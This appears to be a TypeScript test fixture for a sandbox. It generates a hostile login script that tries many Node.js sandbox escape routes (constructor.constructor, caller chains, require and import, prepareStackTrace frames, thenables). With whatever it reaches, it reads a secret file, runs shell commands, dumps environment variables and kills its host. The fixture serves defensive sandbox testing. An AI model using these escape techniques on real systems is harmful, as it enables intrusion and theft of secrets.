// One hostile custom-DB script that tries every escape we know of, then tries to *use* whatever it
// got: read a secret file, write a marker file, start a child process, dump the environment and,
// in kill/exit mode, take down its host. It reports what it observed; the tests assert on the
// report and on the file system (marker files), so an escape counts only if it had an effect we
// can see, and the report names the route in the failure message.
//
// The script is plain sloppy-mode JavaScript on purpose: `arguments.callee.caller` and
// `fn.caller` only exist there.

export type ProbeMode = 'inspect' | 'kill' | 'exit';

export interface ProbeInput {
  /** File the script must not read (the test checks its content never shows up in the report). */
  readonly secretPath: string;
  /** Empty folder: any file appearing in it was written by an escaped script. */
  readonly markerDir: string;
}

export interface ProbeReport {
  readonly routes: Record<string, string>;
  readonly reads: readonly { route: string; content: string }[];
  readonly pids: readonly { route: string; pid: number; ppid: unknown }[];
  readonly envs: readonly { route: string; env: string }[];
  readonly actions: readonly string[];
}

export function probeSource(mode: ProbeMode): string {
  return `function login(input, password, callback) {
  var MODE = ${JSON.stringify(mode)};
  var self = this;
  var callerFn = null;
  try { callerFn = arguments.callee.caller; } catch (e) { callerFn = null; }
  var report = { routes: {}, reads: [], pids: [], envs: [], actions: [] };
  var pending = [];
  var seen = [];
  var markers = 0;

  function text(e) {
    try { return String((e && e.stack) || e).slice(0, 400); } catch (x) { return 'unprintable'; }
  }
  function kind(v) {
    if (v === null) return 'null';
    var t = typeof v;
    try { if (t === 'object' || t === 'function') return t + ':' + String((v.constructor && v.constructor.name) || '?'); } catch (e) {}
    return t;
  }
  function safely(label, fn) {
    try { fn(); } catch (e) { report.actions.push(label + ' threw ' + text(e).slice(0, 160)); }
  }
  function marker(tag) { markers += 1; return input.markerDir + '/' + tag + '-' + markers; }

  function useFs(route, fs) {
    if (!fs || typeof fs.readFileSync !== 'function') return;
    safely(route + ' readFileSync', function () { report.reads.push({ route: route, content: String(fs.readFileSync(input.secretPath, 'utf8')) }); });
    safely(route + ' writeFileSync', function () { fs.writeFileSync(marker('fs'), 'escaped via ' + route); report.actions.push(route + ' wrote a file'); });
    if (fs.promises && typeof fs.promises.readFile === 'function') {
      pending.push(Promise.resolve().then(function () { return fs.promises.readFile(input.secretPath, 'utf8'); })
        .then(function (c) { report.reads.push({ route: route + ' promises', content: String(c) }); }, function (e) { report.actions.push(route + ' promises threw ' + text(e).slice(0, 160)); }));
    }
  }
  function useCp(route, cp) {
    if (!cp || typeof cp.execSync !== 'function') return;
    safely(route + ' execSync', function () { cp.execSync('echo escaped > ' + marker('cp')); report.actions.push(route + ' ran a shell'); });
    safely(route + ' execFileSync', function () { report.reads.push({ route: route + ' cat', content: String(cp.execFileSync('/bin/cat', [input.secretPath])) }); });
  }
  function useSqlite(route, sqlite) {
    if (!sqlite || typeof sqlite.DatabaseSync !== 'function') return;
    safely(route + ' open', function () {
      var db = new sqlite.DatabaseSync(input.secretPath, { readOnly: true });
      var tables = db.prepare("select name from sqlite_master where type = 'table'").all();
      tables.forEach(function (t) { report.reads.push({ route: route + ' ' + t.name, content: JSON.stringify(db.prepare('select * from "' + t.name + '"').all()) }); });
    });
  }
  function useWorkers(route, wt) {
    if (!wt || typeof wt.Worker !== 'function') return;
    safely(route + ' new Worker', function () {
      var w = new wt.Worker('require("fs").writeFileSync(' + JSON.stringify(marker('worker')) + ', "x")', { eval: true });
      pending.push(new Promise(function (resolve) { w.on('exit', resolve); w.on('error', resolve); setTimeout(resolve, 500); }));
    });
  }
  function useVm(route, vm) {
    if (!vm || typeof vm.runInThisContext !== 'function') return;
    safely(route + ' runInThisContext', function () { exploit(route + '.runInThisContext(process)', vm.runInThisContext('process'), 1); });
  }
  function useRequire(route, req) {
    if (typeof req !== 'function') return;
    ['fs', 'node:fs', 'child_process', 'node:sqlite', 'worker_threads', 'vm', 'module'].forEach(function (name) {
      safely(route + '(' + name + ')', function () { exploit(route + '(' + name + ')', req(name), 1); });
    });
  }

  // Treat anything obtained as a possible process, module, require or global, and use it.
  function exploit(route, v, depth) {
    if (v === null || v === undefined || (typeof v !== 'object' && typeof v !== 'function')) return;
    if (seen.indexOf(v) >= 0) return;
    seen.push(v);
    safely(route + '.pid', function () { if (typeof v.pid === 'number') report.pids.push({ route: route, pid: v.pid, ppid: v.ppid }); });
    safely(route + '.env', function () { if (v.env && typeof v.env === 'object') report.envs.push({ route: route, env: JSON.stringify(v.env).slice(0, 20000) }); });
    safely(route + '.getBuiltinModule', function () {
      if (typeof v.getBuiltinModule !== 'function') return;
      ['fs', 'child_process', 'node:sqlite', 'worker_threads', 'vm'].forEach(function (name) { safely(route + '.getBuiltinModule(' + name + ')', function () { exploit(route + '.getBuiltinModule(' + name + ')', v.getBuiltinModule(name), depth + 1); }); });
    });
    safely(route + '.binding', function () { if (typeof v.binding === 'function') report.actions.push(route + '.binding(fs) gave ' + kind(v.binding('fs'))); });
    safely(route + '.mainModule', function () { if (v.mainModule && typeof v.mainModule.require === 'function') useRequire(route + '.mainModule.require', v.mainModule.require.bind(v.mainModule)); });
    useFs(route, v); useCp(route, v); useSqlite(route, v); useWorkers(route, v); useVm(route, v);
    if (MODE === 'kill' && typeof v.kill === 'function' && typeof v.pid === 'number') {
      safely(route + ' kill ppid', function () { v.kill(v.ppid, 'SIGKILL'); report.actions.push(route + ' sent SIGKILL to ppid'); });
      safely(route + ' kill pid', function () { v.kill(v.pid, 'SIGKILL'); report.actions.push(route + ' sent SIGKILL to pid'); });
    }
    if (MODE === 'exit') {
      safely(route + ' exit', function () { if (typeof v.exit === 'function' && typeof v.pid === 'number') { report.actions.push(route + ' called exit'); v.exit(7); } });
      safely(route + ' reallyExit', function () { if (typeof v.reallyExit === 'function') { report.actions.push(route + ' called reallyExit'); v.reallyExit(7); } });
    }
    if (depth < 2) {
      safely(route + '.process', function () { exploit(route + '.process', v.process, depth + 1); });
      safely(route + '.require', function () { useRequire(route + '.require', v.require); });
    }
  }

  function attempt(route, thunk) {
    try {
      var v = thunk();
      report.routes[route] = kind(v);
      if (v && typeof v.then === 'function') {
        pending.push(Promise.resolve(v).then(function (r) { report.routes[route] += ' resolved ' + kind(r); exploit(route, r, 0); },
          function (e) { report.routes[route] += ' rejected ' + text(e); }));
      } else {
        exploit(route, v, 0);
      }
    } catch (e) {
      report.routes[route] = 'threw ' + text(e);
    }
  }
  function viaFunction(route, obj) {
    attempt(route + '.constructor.constructor(process)', function () { return obj.constructor.constructor('return process')(); });
    attempt(route + '.constructor.constructor(this)', function () { return obj.constructor.constructor('return this')(); });
  }

  // Prototype chains of everything the host handed in.
  viaFunction('this', self);
  viaFunction('callback', callback);
  viaFunction('input', input);
  attempt('Object.getPrototypeOf(callback).constructor', function () { return Object.getPrototypeOf(callback).constructor('return process')(); });
  attempt('configuration.constructor.constructor', function () { return configuration.constructor.constructor('return process')(); });
  attempt('arguments.callee.caller', function () { return callerFn && callerFn.constructor('return process')(); });
  attempt('arguments.callee.caller.arguments', function () { return callerFn && callerFn.arguments; });
  attempt('arguments.callee.caller.caller', function () { return callerFn && callerFn.caller && callerFn.caller.constructor('return process')(); });
  attempt('callback.caller', function () { return callback.caller && callback.caller.constructor('return process')(); });

  // Plain names and the module system.
  attempt('process', function () { return process; });
  attempt('globalThis.process', function () { return globalThis.process; });
  attempt('eval(process)', function () { return eval('process'); });
  attempt('new Function(process)', function () { return new Function('return process')(); });
  attempt('require', function () { return require; });
  ['fs', 'node:fs', 'fs/promises', 'child_process', 'node:child_process', 'process', 'node:process', 'node:sqlite',
    'worker_threads', 'vm', 'module', 'inspector', 'v8', input.secretPath].forEach(function (name) {
    attempt('require(' + name + ')', function () { return require(name); });
  });
  attempt('require(module).createRequire', function () { return require('module').createRequire('/')('fs'); });
  attempt('module.require(fs)', function () { return module.require('fs'); });
  attempt('require.main.require(fs)', function () { return require.main.require('fs'); });
  ['fs', 'node:child_process', 'node:process'].forEach(function (name) { attempt('import(' + name + ')', function () { return import(name); }); });
  attempt('fetch(file:)', function () { return fetch('file://' + input.secretPath).then(function (r) { return r.text(); }).then(function (t) { report.reads.push({ route: 'fetch(file:)', content: t }); }); });

  // Every global the container offers, and objects made by host functions.
  Object.getOwnPropertyNames(globalThis).forEach(function (name) {
    var v; try { v = globalThis[name]; } catch (e) { return; }
    if (v && (typeof v === 'object' || typeof v === 'function')) viaFunction('global ' + name, v);
  });
  attempt('setTimeout() handle', function () { var t = setTimeout(function () {}, 0); return t && t.constructor.constructor('return process')(); });
  attempt('Buffer.from() instance', function () { return Buffer.from('x').constructor.constructor('return process')(); });
  attempt('host error', function () { try { Buffer.alloc(-1); } catch (e) { return e.constructor.constructor('return process')(); } });
  attempt('fetch() promise', function () { var p = fetch('http://127.0.0.1:1/'); p.catch(function () {}); return p.constructor.constructor('return process')(); });

  // util.inspect hands a custom inspector its own functions and options.
  attempt('inspect.custom', function () {
    var got = null;
    var bait = {}; bait[Symbol.for('nodejs.util.inspect.custom')] = function (depth, options, inspect) {
      try { got = (inspect || options.stylize).constructor('return process')(); } catch (e) { got = null; }
      return 'bait';
    };
    console.log(bait);
    return got;
  });

  // Stack-trace API: frames of host functions expose their receiver and function.
  attempt('Error.prepareStackTrace', function () {
    var frames = [];
    var previous = Error.prepareStackTrace;
    Error.prepareStackTrace = function (e, callSites) { frames = frames.concat(callSites); return 'captured'; };
    try {
      void new Error().stack;
      [1].map(function () { return new Error().stack; });
      JSON.stringify({ toJSON: function () { return new Error().stack; } });
      try { Buffer.from({ valueOf: function () { void new Error().stack; return 'x'; } }); } catch (e) {}
      try { Buffer.alloc(-1); } catch (e) { void e.stack; }
    } finally { Error.prepareStackTrace = previous; }
    frames.forEach(function (f, i) {
      safely('frame ' + i, function () { exploit('stack frame ' + i + ' getThis', f.getThis(), 0); });
      safely('frame ' + i + ' fn', function () { var fn = f.getFunction(); if (fn) exploit('stack frame ' + i + ' getFunction', fn.constructor('return process')(), 0); });
    });
    return frames.length;
  });

  // The same through the container realm's own Error: reached from an error a host function threw.
  attempt('container Error.prepareStackTrace', function () {
    var HostError = null;
    try { Buffer.alloc(-1); } catch (e) { HostError = Object.getPrototypeOf(e.constructor); }
    if (!HostError || HostError === Error) return 'no host Error';
    var frames = [];
    var previous = HostError.prepareStackTrace;
    HostError.prepareStackTrace = function (e, callSites) { frames = frames.concat(callSites); return 'captured'; };
    try {
      try { Buffer.alloc(-1); } catch (e) { void e.stack; }
      try { new URL('not a url'); } catch (e) { void e.stack; }
      try { require('util').inspect({ get x() { return new Error().stack; } }, { getters: true }); } catch (e) {}
      try { HostError.captureStackTrace({}); } catch (e) {}
    } finally { HostError.prepareStackTrace = previous; }
    frames.forEach(function (f, i) {
      safely('host frame ' + i, function () { exploit('host stack frame ' + i + ' getThis', f.getThis(), 0); });
      safely('host frame ' + i + ' fn', function () { var fn = f.getFunction(); if (fn) exploit('host stack frame ' + i + ' getFunction', fn.constructor('return process')(), 0); });
    });
    return frames.length;
  });

  // A returned thenable: a host that awaits it hands us its own resolve functions.
  var thenable = { then: function (resolve, reject) {
    attempt('returned thenable resolve', function () { return resolve.constructor('return process')(); });
    attempt('returned thenable reject', function () { return reject && reject.constructor('return process')(); });
  } };

  // Exploits may queue more work while settling: drain until nothing new appears, then give a
  // host that awaits the returned thenable time to call it.
  function drain() {
    var count = pending.length;
    return Promise.all(pending.map(function (p) { return p.catch(function () {}); }))
      .then(function () { return pending.length > count ? drain() : undefined; });
  }
  drain().then(function () {
    setTimeout(function () { drain().then(function () { callback(null, report); }); }, 50);
  });
  return thenable;
}`;
}
